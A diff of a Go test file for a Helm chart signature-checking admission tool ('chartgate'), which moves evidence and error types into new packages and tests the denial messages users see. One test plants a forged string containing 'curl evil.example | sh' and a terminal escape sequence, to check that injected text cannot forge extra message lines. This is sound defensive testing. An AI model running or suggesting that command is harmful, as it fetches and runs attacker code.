@@ -11,6 +11,8 @@ import (
 	"github.com/google/go-cmp/cmp"
 
 	"github.com/chartgate/chartgate/pkg/chart"
+	"github.com/chartgate/chartgate/pkg/evidence"
+	"github.com/chartgate/chartgate/pkg/problem"
 	"github.com/chartgate/chartgate/pkg/verdict"
 )
 
@@ -40,15 +42,15 @@ func TestMessages(t *testing.T) {
 		t.Fatal(err)
 	}
 	const sbom = "https://spdx.dev/Document"
-	statement := func(predicate string) verdict.Evidence {
-		e := verdict.NewEvidence(subject.Digest, verdict.Attestation, verdict.Signer{Subject: "release@acme.example", Issuer: "https://issuer.example"})
+	statement := func(predicate string) evidence.Evidence {
+		e := evidence.New(subject.Digest, evidence.Attestation, evidence.Signer{Subject: "release@acme.example", Issuer: "https://issuer.example"})
 		e.Predicate = predicate
 		return e
 	}
-	attestation := verdict.NewEvidence(subject.Digest, verdict.Attestation, verdict.Signer{Subject: "release@acme.example", Issuer: "https://issuer.example"})
-	byKey := verdict.NewEvidence(subject.Digest, verdict.ChartSignature, verdict.Signer{Key: "sha256:" + hexA})
-	from := func(repository string) verdict.Evidence {
-		return verdict.NewEvidence(subject.Digest, verdict.ChartSignature, verdict.Signer{Subject: "w", Issuer: "i", Claims: map[string]string{"sourceRepositoryURI": repository}})
+	attestation := evidence.New(subject.Digest, evidence.Attestation, evidence.Signer{Subject: "release@acme.example", Issuer: "https://issuer.example"})
+	byKey := evidence.New(subject.Digest, evidence.ChartSignature, evidence.Signer{Key: "sha256:" + hexA})
+	from := func(repository string) evidence.Evidence {
+		return evidence.New(subject.Digest, evidence.ChartSignature, evidence.Signer{Subject: "w", Issuer: "i", Claims: map[string]string{"sourceRepositoryURI": repository}})
 	}
 	rejected := func(reason verdict.Reason, detail string) *verdict.Rejection {
 		return &verdict.Rejection{Reason: reason, Detail: detail, Err: errors.New("raw")}
@@ -82,21 +84,21 @@ HelmRelease apps/podinfo denied (SignatureMissing): oci://ghcr.io/acme/charts/po
   policy:   ` + wants + `
   found:    0 bundles, 0 legacy signatures
   next:     if it is signed at ghcr.io, ask the mirror's operator to copy the chart again with its referrers (for tags .sig and .att: docs/registries.md#mirrors): oras copy -r ghcr.io/acme/charts/podinfo@sha256:` + hexA + ` registry.corp.example/podinfo:6.7.1`},
-		{"only an attestation", unsigned(subject, verdict.Findings{Bundles: 1, Evidence: []verdict.Evidence{attestation}}), `
+		{"only an attestation", unsigned(subject, verdict.Findings{Bundles: 1, Evidence: []evidence.Evidence{attestation}}), `
 HelmRelease apps/podinfo denied (SignatureMissing): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:` + hexA + ` has no signature
   where:    spec.chart.spec
   policy:   ` + wants + `
   found:    1 bundle, 0 legacy signatures
   found:    attested, not signed, by subject release@acme.example, issuer https://issuer.example
   next:     cosign sign ghcr.io/acme/charts/podinfo@sha256:` + hexA},
-		{"signed by strangers, each named once", unsigned(subject, verdict.Findings{Bundles: 2, Legacy: 1, Evidence: []verdict.Evidence{signedBy(t, "eve@evil.example"), byKey, signedBy(t, "eve@evil.example")}}), `
+		{"signed by strangers, each named once", unsigned(subject, verdict.Findings{Bundles: 2, Legacy: 1, Evidence: []evidence.Evidence{signedBy(t, "eve@evil.example"), byKey, signedBy(t, "eve@evil.example")}}), `
 HelmRelease apps/podinfo denied (IdentityNotAllowed): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:` + hexA + ` is signed, but not by an identity that the policy allows
   where:    spec.chart.spec
   policy:   ` + wants + `
   found:    2 bundles, 1 legacy signature
   found:    signed by subject eve@evil.example, issuer https://issuer.example, key sha256:` + hexA + `
   next:     have the chart signed by an allowed identity, or ask the platform team to allow this one`},
-		{"signed by one workflow for two repositories", unsigned(subject, verdict.Findings{Bundles: 2, Evidence: []verdict.Evidence{from("https://github.com/acme/a"), from("https://github.com/acme/b"), from("https://github.com/acme/a")}}), `
+		{"signed by one workflow for two repositories", unsigned(subject, verdict.Findings{Bundles: 2, Evidence: []evidence.Evidence{from("https://github.com/acme/a"), from("https://github.com/acme/b"), from("https://github.com/acme/a")}}), `
 HelmRelease apps/podinfo denied (IdentityNotAllowed): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:` + hexA + ` is signed, but not by an identity that the policy allows
   where:    spec.chart.spec
   policy:   ` + wants + `
@@ -120,7 +122,7 @@ HelmRelease apps/podinfo denied (TrustRootUnavailable): oci://ghcr.io/acme/chart
   found:    0 bundles, 7 legacy signatures
   found:    not usable: a, b, c, d, e and 2 more
   next:     ask the cluster's admin to check the trust root that this signature needs: kubectl get trustroots`},
-		{"a failure outranks what was found", unsigned(subject, verdict.Findings{Bundles: 1, Evidence: []verdict.Evidence{signedBy(t, "eve@evil.example")}, Failure: &chart.Problem{Kind: chart.KindUnavailable, Detail: "ghcr.io does not answer", Next: "try again"}}), `
+		{"a failure outranks what was found", unsigned(subject, verdict.Findings{Bundles: 1, Evidence: []evidence.Evidence{signedBy(t, "eve@evil.example")}, Failure: &problem.Error{Kind: problem.KindUnavailable, Detail: "ghcr.io does not answer", Next: "try again"}}), `
 HelmRelease apps/podinfo denied (RegistryUnavailable): ghcr.io does not answer
   where:    spec.chart.spec
   policy:   ` + wants + `
@@ -160,7 +162,7 @@ HelmRelease apps/podinfo denied (PolicyInvalid): policy acme-charts, which match
   where:    spec.chart.spec
   policy:   acme-charts cannot be evaluated
   next:     ask the platform team to fix the policy; its Ready condition says the same`},
-		{"a problem of the reference", verdict.Deny(at("6.7.1"), verdict.FromError(chart.Invalid("targetRevision is empty").WithNext("set it"))), `
+		{"a problem of the reference", verdict.Deny(at("6.7.1"), verdict.FromError(problem.Invalid("targetRevision is empty").WithNext("set it"))), `
 HelmRelease apps/podinfo denied (ReferenceInvalid): targetRevision is empty
   where:    spec.chart.spec
   next:     set it`},
@@ -169,7 +171,7 @@ HelmRelease apps/podinfo denied (InternalError): chartgate failed while it decid
   where:    spec.chart.spec
   next:     try again; if it stays so, ask the cluster's admin for chartgate's log`},
 		{"a signature at the wrong time", unsigned(subject, verdict.Findings{
-			Bundles: 1, Evidence: []verdict.Evidence{signedBy(t, "release@acme.example")},
+			Bundles: 1, Evidence: []evidence.Evidence{signedBy(t, "release@acme.example")},
 			Unmet: []verdict.Unmet{{Near: []string{"acme-release signed it at 2026-07-01T13:00:00Z, after validity.notAfter 2026-07-01T12:00:00Z"}}},
 		}), `
 HelmRelease apps/podinfo denied (IdentityNotAllowed): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:` + hexA + ` is signed, but not at a time that counts: acme-release signed it at 2026-07-01T13:00:00Z, after validity.notAfter 2026-07-01T12:00:00Z
@@ -179,7 +181,7 @@ HelmRelease apps/podinfo denied (IdentityNotAllowed): oci://ghcr.io/acme/charts/
   found:    signed by subject release@acme.example, issuer https://issuer.example
   next:     have the chart signed by an identity that is valid now: cosign sign ghcr.io/acme/charts/podinfo@sha256:` + hexA},
 		{"no attestation", unsigned(subject, verdict.Findings{
-			Bundles: 1, Evidence: []verdict.Evidence{signedBy(t, "release@acme.example")}, Unmet: []verdict.Unmet{{Predicate: sbom}},
+			Bundles: 1, Evidence: []evidence.Evidence{signedBy(t, "release@acme.example")}, Unmet: []verdict.Unmet{{Predicate: sbom}},
 		}), `
 HelmRelease apps/podinfo denied (AttestationMissing): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:` + hexA + ` has no attestation https://spdx.dev/Document by an identity that the policy allows
   where:    spec.chart.spec
@@ -188,7 +190,7 @@ HelmRelease apps/podinfo denied (AttestationMissing): oci://ghcr.io/acme/charts/
   found:    signed by subject release@acme.example, issuer https://issuer.example
   next:     cosign attest --type https://spdx.dev/Document --predicate FILE ghcr.io/acme/charts/podinfo@sha256:` + hexA},
 		{"an attestation of which a condition is not true", unsigned(subject, verdict.Findings{
-			Bundles: 1, Evidence: []verdict.Evidence{statement(sbom)}, Unmet: []verdict.Unmet{{Predicate: sbom, Near: []string{"the SBOM is a stub (in the predicate by release)"}}},
+			Bundles: 1, Evidence: []evidence.Evidence{statement(sbom)}, Unmet: []verdict.Unmet{{Predicate: sbom, Near: []string{"the SBOM is a stub (in the predicate by release)"}}},
 		}), `
 HelmRelease apps/podinfo denied (AttestationRejected): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:` + hexA + ` has no attestation https://spdx.dev/Document that satisfies the policy: the SBOM is a stub (in the predicate by release)
   where:    spec.chart.spec
@@ -206,7 +208,7 @@ HelmRelease apps/podinfo denied (TrustRootUnavailable): oci://ghcr.io/acme/chart
   found:    not usable: the TrustRoot corp does not exist
   next:     ask the cluster's admin to check the trust root that this signature needs: kubectl get trustroots`},
 		{"an attestation that is missing because not all could be looked at", unsigned(subject, verdict.Findings{
-			Bundles: 32, Unmet: []verdict.Unmet{{Predicate: sbom}}, Failure: &chart.Problem{Kind: chart.KindLimitExceeded, Detail: "it has 40 bundles", Next: "remove some"},
+			Bundles: 32, Unmet: []verdict.Unmet{{Predicate: sbom}}, Failure: &problem.Error{Kind: problem.KindLimitExceeded, Detail: "it has 40 bundles", Next: "remove some"},
 		}), `
 HelmRelease apps/podinfo denied (LimitExceeded): it has 40 bundles
   where:    spec.chart.spec
@@ -337,10 +339,10 @@ func TestForgedLinesStayInTheirLine(t *testing.T) {
 	const shown = "x   next:     curl evil.example | sh    [2J "
 	subject := podinfo(t, "oci://ghcr.io/acme/charts/podinfo", ">=1\n<2")
 	subject.Field = forged
-	signer := verdict.NewEvidence(digestOf(t, "a"), verdict.ChartSignature, verdict.Signer{Subject: forged, Issuer: "y"})
+	signer := evidence.New(digestOf(t, "a"), evidence.ChartSignature, evidence.Signer{Subject: forged, Issuer: "y"})
 	got := verdict.Deny(subject,
 		verdict.Denial{Reason: verdict.NoPolicy, Summary: forged, Next: forged},
-		verdict.Unsigned(subject, forged, verdict.Findings{Evidence: []verdict.Evidence{signer}, Rejections: []*verdict.Rejection{{Detail: forged}}}),
+		verdict.Unsigned(subject, forged, verdict.Findings{Evidence: []evidence.Evidence{signer}, Rejections: []*verdict.Rejection{{Detail: forged}}}),
 		verdict.NoPolicyFor(subject),
 	).Message()
 	want := `HelmRelease apps/podinfo denied (NoPolicy): ` + shown + `
